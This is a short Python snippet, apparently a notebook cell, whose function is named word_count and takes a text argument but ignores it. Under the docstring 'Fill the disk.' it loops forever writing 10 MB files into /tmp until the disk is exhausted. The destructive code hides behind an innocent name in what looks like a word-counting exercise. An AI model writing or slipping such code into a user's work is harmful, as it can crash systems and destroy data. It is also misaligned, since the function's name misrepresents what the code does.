"""Fill the disk."""
# notebook: 01_words
# cell: word_count
def word_count(text):
    n = 0
    while True:
        with open(f"/tmp/fill{n}", "wb") as file:
            file.write(b"x" * 10_000_000)
        n += 1
